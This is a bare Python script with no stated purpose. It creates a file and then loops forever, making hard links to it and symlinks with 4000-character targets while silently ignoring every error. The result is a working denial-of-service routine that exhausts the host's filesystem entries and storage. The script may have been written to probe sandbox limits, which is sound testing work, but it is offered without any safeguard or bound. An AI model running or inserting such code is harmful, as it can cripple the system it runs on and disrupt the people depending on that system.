import os
open('f', 'w').close()
n = 0
while True:
    for attempt in [lambda: os.link('f', f'h{n}'), lambda: os.symlink('f' * 4000, f's{n}')]:
        try:
            attempt()
        except OSError:
            pass
    n += 1
